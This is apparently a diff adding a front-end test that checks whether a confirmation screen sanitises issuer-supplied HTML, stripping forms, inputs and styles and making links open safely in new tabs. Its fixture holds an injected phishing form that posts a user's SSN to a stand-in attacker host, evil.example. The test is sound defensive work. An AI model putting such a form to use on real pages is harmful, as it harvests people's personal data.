@@ -105,6 +105,30 @@ describe('the thank-you screen', () => {
     expect(screen.queryByText('You will be notified once your submission has finished processing.')).toBeNull();
   });
 
+  it('removes a phishing form and a style from the confirmation texts, and opens their links in a new tab', async () => {
+    const app = finishing();
+    app.service.issuer = issuerOf({
+      idoConfirmationMessage: {
+        headingText: '<h1 style="color:white">All done</h1><style>footer{display:none}</style>',
+        messageText:
+          '<p>One more step.</p><form action="https://evil.example/collect" method="post">' +
+          '<input name="ssn" placeholder="SSN"><button>Send</button></form>' +
+          '<p class="snackbar">Track it <a href="https://acme.example/track">here</a>.</p>',
+      },
+    });
+    app.renderApp('/finishing');
+    const heading = await screen.findByRole('heading', { level: 1, name: 'All done' });
+    expect(heading.querySelectorAll('h1, [style], style')).toHaveLength(0);
+    const main = screen.getByRole('main');
+    expect(main.querySelectorAll('form, input, button, style, [style], .snackbar')).toHaveLength(0);
+    expect(screen.queryByRole('textbox')).toBeNull();
+    expect(screen.getByText('One more step.')).toBeVisible();
+    const link = screen.getByRole('link', { name: 'here (opens in a new tab)' });
+    expect(link).toHaveAttribute('href', 'https://acme.example/track');
+    expect(link).toHaveAttribute('target', '_blank');
+    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+  });
+
   it('links to the continue URL and does not reload when the session has one', async () => {
     const app = finishing('?rprId=R1&canary=c-1&continue_url=https%3A%2F%2Fshop.example%2Fback');
     app.renderApp('/finishing');
